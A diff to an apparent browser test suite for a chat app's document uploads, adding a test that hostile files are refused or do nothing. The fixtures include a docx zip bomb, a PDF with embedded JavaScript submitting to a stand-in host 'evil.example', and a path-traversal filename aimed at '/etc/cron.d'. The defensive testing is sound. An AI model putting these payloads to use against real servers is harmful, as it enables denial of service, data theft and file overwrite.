@@ -2,7 +2,7 @@
 import assert from 'node:assert/strict';
 import { existsSync } from 'node:fs';
 import { test } from 'node:test';
-import { crc32 } from 'node:zlib';
+import { crc32, deflateRawSync } from 'node:zlib';
 
 import { axe, begin, done, open, say, skip } from './harness.mjs';
 
@@ -13,8 +13,8 @@ const picker = (view) => view.locator('form input[type=file]');
 const file = (name, buffer) => ({ name, mimeType: 'application/octet-stream', buffer });
 
 // One line of text a page.
-function pdf(lines) {
-  const objects = ['<< /Type /Catalog /Pages 2 0 R >>',
+function pdf(lines, more = '') {
+  const objects = [`<< /Type /Catalog /Pages 2 0 R ${more} >>`,
     `<< /Type /Pages /Count ${lines.length} /Kids [${lines.map((_, i) => `${4 + 2 * i} 0 R`).join(' ')}] >>`,
     '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'];
   for (const line of lines) {
@@ -35,17 +35,19 @@ function pdf(lines) {
   return Buffer.from(text);
 }
 
-// An archive with word/document.xml alone, which is stored.
-function docx(body) {
+// An archive with word/document.xml alone, which is stored, or deflated.
+function docx(body, deflated = false) {
   const name = Buffer.from('word/document.xml');
   const xml = Buffer.from(`<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`);
+  const content = deflated ? deflateRawSync(xml) : xml;
   const shared = Buffer.alloc(26); // what stands in both headers
   shared.writeUInt16LE(20, 0);
+  shared.writeUInt16LE(deflated ? 8 : 0, 4);
   shared.writeUInt32LE(crc32(xml), 10);
-  shared.writeUInt32LE(xml.length, 14);
+  shared.writeUInt32LE(content.length, 14);
   shared.writeUInt32LE(xml.length, 18);
   shared.writeUInt16LE(name.length, 22);
-  const local = Buffer.concat([Buffer.from('PK\x03\x04'), shared, name, xml]);
+  const local = Buffer.concat([Buffer.from('PK\x03\x04'), shared, name, content]);
   const central = Buffer.concat([Buffer.from('PK\x01\x02\x14\0'), shared, Buffer.alloc(14), name]);
   const last = Buffer.alloc(22);
   last.write('PK\x05\x06', 'latin1');
@@ -95,6 +97,29 @@ test('what cannot be read is refused with the reason, and the others go along', 
   assert.equal(await view.locator('form li').count(), 1);
   await say(view, 'and this?');
   await done(view);
+});
+
+test('a bomb, a script and too much are refused or do nothing, and who sent them goes on', async () => {
+  const view = await open(browser, server);
+  await view.goto(server.address);
+  const bomb = docx(paragraph('a'.repeat(64 << 20)), true);
+  assert.ok(bomb.length < 100_000);
+  const script = '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example"\\)) >>';
+  await picker(view).setInputFiles([file('bomb.docx', bomb), file('fine.docx', docx(paragraph('packed'), true)),
+    file('script.pdf', pdf(['no more than this'], script)), file('large.pdf', Buffer.alloc((32 << 20) + 1, '%PDF-1.7\n'))]);
+  await view.getByText('1 pages · 4 words').waitFor();
+  const said = await view.getByRole('alert').innerText();
+  assert.match(said, /bomb\.docx: .*limit.*large\.pdf is larger than 34 MB/s);
+  assert.equal(await view.locator('form li').count(), 2);
+  await say(view, 'and now?');
+  await done(view);
+  const [made] = (await get('/api/v1/conversations')).data;
+  const [question] = (await get(`/api/v1/conversations/${made.id}`)).messages;
+  assert.equal(question.text, 'and now?\n\nfine.docx:\n```docx\npacked\n```\n\nscript.pdf:\n```pdf\nno more than this\n```');
+  const form = new FormData(); // past the page, too
+  form.set('file', new Blob([Buffer.alloc((32 << 20) + 1, '%PDF-1.7\n')]), '../../../etc/cron.d/x');
+  assert.ok([400, 413].includes((await fetch(`${server.address}/api/v1/documents`, { method: 'POST', body: form })).status));
+  assert.deepEqual(view.problems.filter((each) => !/status of 4/.test(each)), []);
 });
 
 test.after(end);
